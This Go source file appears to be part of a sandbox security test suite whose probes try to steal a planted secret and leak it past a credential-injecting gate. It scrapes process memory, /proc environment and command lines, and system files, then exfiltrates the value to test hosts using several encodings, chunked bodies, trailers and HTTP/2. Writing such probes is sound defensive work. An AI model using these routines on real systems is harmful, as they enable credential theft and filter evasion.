//go:build linux

package probe

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// gateSecretProbes are after a secret of which the box has a placeholder. Without a
// gate the box has what people give it: the value.
func gateSecretProbes() []Probe {
	const (
		why   = "a value that was seen once is lost for good"
		wall  = "the value is outside, and the gate puts it into requests on their way out"
		leak  = "a value in the wrong place is told to somebody who writes it down"
		check = "the gate puts the value in one place of requests to its hosts alone, and refuses the placeholder elsewhere"
	)
	// loot looks for the value inside.
	loot := func(id, title string, attack func(*Inside) error) Probe {
		return gateProbe("secret-"+id, title, why, wall, attack).plantedAs(plantValue, cameOut)
	}
	// send lets the value go out.
	send := func(id, title string, host, port string, text func(in *Inside, token string) string) Probe {
		return gateProbe("secret-"+id, title, leak, check, func(in *Inside) error {
			token := os.Getenv(secretInside)
			if token == "" {
				return errors.New("there is no placeholder")
			}
			if port == "plain" {
				c, err := in.reach(host, in.Args["plain"])
				if err != nil {
					return err
				}
				defer c.Close()
				return in.say(c, text(in, token))
			}
			return securely(host, func(in *Inside) []string { return []string{text(in, token)} })(in)
		}).plantedAs(plantValue, leaked)
	}
	path := func(encode func(string) string) func(in *Inside, token string) string {
		return func(in *Inside, token string) string {
			return get(in.at(siteSecret, "secure"), "/?"+encode(token)+"&"+in.Nonce)
		}
	}
	body := func(encode func(string) string, more ...string) func(in *Inside, token string) string {
		return func(in *Inside, token string) string {
			b := encode(token)
			return "POST / HTTP/1.1\r\nHost: " + in.at(siteSecret, "secure") + "\r\n" + strings.Join(append(more, ""), "\r\n") + "Content-Length: " + strconv.Itoa(len(b)+len(in.Nonce)) + "\r\n\r\n" + b + in.Nonce
		}
	}
	header := func(host, port, name, format string) func(in *Inside, token string) string {
		return func(in *Inside, token string) string {
			return get(in.at(host, port), "/", name+": "+strings.ReplaceAll(format, "{}", token), "X-Word: "+in.Nonce)
		}
	}
	same := func(s string) string { return s }
	chunk := func(s string) string { return fmt.Sprintf("%x\r\n%s\r\n", len(s), s) }
	return []Probe{
		loot("environment", "find the value in the environment", func(in *Inside) error {
			in.Loot([]byte(strings.Join(os.Environ(), "\n")))
			return errHeld
		}),
		loot("processes", "find the value in environments and command lines of processes", func(in *Inside) error {
			for _, pid := range pidsNear(in) {
				for _, name := range [...]string{"environ", "cmdline"} {
					b, _ := os.ReadFile("/proc/" + pid + "/" + name)
					lootMarked(in, b)
				}
			}
			return errHeld
		}),
		loot("memory", "find the value in the memory of processes, of the first as well", func(in *Inside) error {
			for _, pid := range pidsNear(in) {
				lootMemory(in, pid)
			}
			return errHeld
		}).slowly(),
		loot("files", "find the value in files", func(in *Inside) error {
			roots := []string{in.Home}
			if in.Args["access"] == string(accessGate) {
				roots = append(roots, "/run", "/tmp", "/etc", "/dev/shm", "/var", in.WS)
			}
			for _, root := range roots {
				lootTree(in, root)
			}
			return errHeld
		}).slowly(),
		gateProbe("secret-echo", "get the value back from a server that echoes it", why, "the gate masks the value in answers", func(in *Inside) error {
			return securely(siteSecret, func(in *Inside) []string {
				return []string{get(in.at(siteSecret, "secure"), "/", "Authorization: Bearer "+os.Getenv(secretInside))}
			})(in)
		}).plantedAs(plantValue, cameOut),
		gateProbe("secret-echo-2", "get the value back from a server that echoes it by HTTP/2", why, "the gate masks the value in answers", func(in *Inside) error {
			return in.over2(siteSecret, in.at(siteSecret, "secure"), "/", http.Header{"Authorization": {"Bearer " + os.Getenv(secretInside)}}, nil)
		}).plantedAs(plantValue, cameOut),
		send("other-host", "send the value to another allowed host, over TLS", siteAllowed, "secure", header(siteAllowed, "secure", "Authorization", "Bearer {}")).plantedAs(plantValue, valueBy),
		send("inspected-host", "send the value to another host that is looked into", siteRead, "secure", func(in *Inside, token string) string {
			return get(in.at(siteRead, "secure"), "/ok/", "Authorization: Bearer "+token, "X-Word: "+in.Nonce)
		}),
		send("plain-host", "send the value to another host without TLS", siteAllowed, "plain", header(siteAllowed, "plain", "Authorization", "Bearer {}")),
		send("plain", "send the value to its host without TLS", siteSecret, "plain", header(siteSecret, "plain", "Authorization", "Bearer {}")),
		send("other-header", "send the value in another header", siteSecret, "secure", header(siteSecret, "secure", "X-Token", "{}")),
		send("other-format", "send the value in another format", siteSecret, "secure", header(siteSecret, "secure", "Authorization", "Digest x={}")),
		send("user", "send the value as a password of basic authentication", siteSecret, "secure", func(in *Inside, token string) string {
			return get(in.at(siteSecret, "secure"), "/", "Authorization: "+basic("user", token), "X-Word: "+in.Nonce)
		}),
		send("cookie", "send the value in a cookie", siteSecret, "secure", header(siteSecret, "secure", "Cookie", "a=b; c={}")),
		send("path", "send the value in a path", siteSecret, "secure", func(in *Inside, token string) string { return get(in.at(siteSecret, "secure"), "/"+token+"/"+in.Nonce) }),
		send("query", "send the value in a query", siteSecret, "secure", path(same)),
		send("query-escaped", "send the value in a query, escaped", siteSecret, "secure", path(escaped)),
		send("query-base64", "send the value in a query, in base64", siteSecret, "secure", path(func(s string) string { return base64.RawURLEncoding.EncodeToString([]byte("x" + s)) })),
		send("body", "send the value in a body", siteSecret, "secure", body(same)),
		send("body-base64", "send the value in a body, in base64", siteSecret, "secure", body(func(s string) string { return base64.StdEncoding.EncodeToString([]byte("xy" + s)) })),
		send("body-hex", "send the value in a body, in hexadecimal", siteSecret, "secure", body(func(s string) string { return hex.EncodeToString([]byte(s)) })),
		send("body-gzip", "send the value in a compressed body", siteSecret, "secure", body(func(s string) string {
			var b bytes.Buffer
			w := gzip.NewWriter(&b)
			io.WriteString(w, s)
			w.Close()
			return b.String()
		}, "Content-Encoding: gzip")),
		send("body-chunks", "send the value in a body cut into chunks", siteSecret, "secure", func(in *Inside, token string) string {
			return "POST / HTTP/1.1\r\nHost: " + in.at(siteSecret, "secure") + "\r\nTransfer-Encoding: chunked\r\n\r\n" + chunk(token[:5]) + chunk(token[5:9]) + chunk(token[9:]) + chunk(in.Nonce) + "0\r\n\r\n"
		}),
		send("trailer", "send the value behind a body", siteSecret, "secure", func(in *Inside, token string) string {
			return "POST / HTTP/1.1\r\nHost: " + in.at(siteSecret, "secure") + "\r\nTransfer-Encoding: chunked\r\nTrailer: X-Token\r\n\r\n0\r\nX-Token: " + token + in.Nonce + "\r\n\r\n"
		}),
		gateProbe("secret-body-2", "send the value in a body by HTTP/2", leak, check, func(in *Inside) error {
			return in.over2(siteSecret, in.at(siteSecret, "secure"), "/", nil, strings.NewReader(os.Getenv(secretInside)+in.Nonce))
		}).plantedAs(plantValue, leaked),
		gateProbe("secret-header-2", "send the value in another header by HTTP/2", leak, check, func(in *Inside) error {
			return in.over2(siteSecret, in.at(siteSecret, "secure"), "/", http.Header{"X-Token": {os.Getenv(secretInside)}, "X-Word": {in.Nonce}}, nil)
		}).plantedAs(plantValue, leaked),
		{ID: "gate.secret-logs", Severity: Boundary, Scene: sceneGate, OwnGate: true, NeedsGate: true, Title: "get the value written into the log of connections", Why: "logs are kept, sent and read by others",
			Wall: "values are in no event", Fix: fixGate, Plant: plantValue,
			Attack: func(in *Inside) error {
				token := os.Getenv(secretInside)
				for _, text := range []string{get(in.at(siteSecret, "secure"), "/", "Authorization: Bearer "+token), get(in.at(siteSecret, "secure"), "/"+token), get(token+"."+siteSecret, "/")} {
					securely(siteSecret, func(*Inside) []string { return []string{text} })(in)
				}
				return errHeld
			},
			Judge: func(c *Case, _ *Report) (bool, string) {
				list, err := filepath.Glob(filepath.Join(c.site.dir, "*.jsonl"))
				if err != nil || len(list) == 0 {
					return true, "there is no log to look at"
				}
				size := 0
				for _, name := range list {
					b, err := os.ReadFile(name)
					if err != nil {
						return true, err.Error()
					}
					size += len(b)
					if bytes.Contains(b, []byte(c.site.value)) {
						return true, "the value is in " + name
					}
				}
				if size == 0 {
					return true, "the logs are empty"
				}
				return false, ""
			}},
	}
}

func escaped(s string) string {
	var b strings.Builder
	for i := range len(s) {
		fmt.Fprintf(&b, "%%%02x", s[i])
	}
	return b.String()
}

// slowly gives an attack more time: it looks at much.
func (p Probe) slowly() Probe { p.Limit = 15 * time.Second; return p }

// plantValue makes the site's secret the one that must not come out.
func plantValue(c *Case) error {
	if err := c.website(); err != nil {
		return err
	}
	c.Token = c.site.value
	if c.access != accessGate { // as people keep it without a gate
		return c.write(filepath.Join(c.Home, ".config/token"), c.Token+"\n")
	}
	return nil
}

// leaked: what was sent along with a placeholder arrived, or the value did.
func leaked(c *Case, r *Report) (bool, string) {
	if yes, _ := reached(c, r); yes {
		return true, "a request with the placeholder, or the value, in the wrong place arrived at a server"
	}
	return false, ""
}

// valueBy: the value arrived together with the probe's word. The placeholder may: it is
// worth nothing.
func valueBy(c *Case, r *Report) (bool, string) {
	reached(c, r)
	c.hears.mu.Lock()
	defer c.hears.mu.Unlock()
	b := c.hears.words.Bytes()
	for {
		i := bytes.Index(b, []byte(c.Nonce))
		if i < 0 {
			return false, ""
		}
		if bytes.Contains(b[max(0, i-400):min(len(b), i+400)], []byte(c.site.value)) {
			return true, "the value arrived at another host"
		}
		b = b[i+len(c.Nonce):]
	}
}

// pidsNear are processes that may be looked at: all of a box that has its own, else
// this one and what started it.
func pidsNear(in *Inside) []string {
	list := []string{"self", strconv.Itoa(os.Getppid())}
	if in.Args["access"] != string(accessGate) || in.weakProxy() != "" {
		return list
	}
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		if _, err := strconv.Atoi(e.Name()); err == nil {
			list = append(list, e.Name())
		}
	}
	return list
}

// lootMarked takes what follows the mark that every value begins with.
func lootMarked(in *Inside, b []byte) {
	mark := []byte(in.Args["mark"] + "_")
	for {
		i := bytes.Index(b, mark)
		if i < 0 {
			return
		}
		b = b[i:]
		if word := b[:min(len(b), 64)]; !bytes.Contains(in.loot, word) {
			in.Loot(word)
		}
		b = b[1:]
	}
}

func lootMemory(in *Inside, pid string) {
	maps, err := os.ReadFile("/proc/" + pid + "/maps")
	if err != nil {
		return
	}
	mem, err := os.Open("/proc/" + pid + "/mem")
	if err != nil {
		return
	}
	defer mem.Close()
	buf := make([]byte, 1<<20)
	total := 0
	for line := range strings.Lines(string(maps)) {
		f := strings.Fields(line)
		if len(f) < 2 || !strings.HasPrefix(f[1], "rw") {
			continue
		}
		from, to, _ := strings.Cut(f[0], "-")
		at, _ := strconv.ParseUint(from, 16, 64)
		end, _ := strconv.ParseUint(to, 16, 64)
		for at < end && total < 64<<20 {
			n, err := unix.Pread(int(mem.Fd()), buf[:min(uint64(len(buf)), end-at)], int64(at))
			if n <= 0 || err != nil {
				break
			}
			lootMarked(in, buf[:n])
			at, total = at+uint64(n), total+n
		}
	}
}

func lootTree(in *Inside, root string) {
	seen := 0
	filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		switch {
		case err != nil, d.IsDir() && (d.Name() == "tools" || d.Name() == "cache" || d.Name() == "lib"):
			return fs.SkipDir
		case !d.Type().IsRegular():
			return nil
		}
		if seen++; seen > 4000 {
			return fs.SkipAll
		}
		if info, err := d.Info(); err != nil || info.Size() > 1<<20 {
			return nil
		}
		b, _ := os.ReadFile(path)
		lootMarked(in, b)
		return nil
	})
}
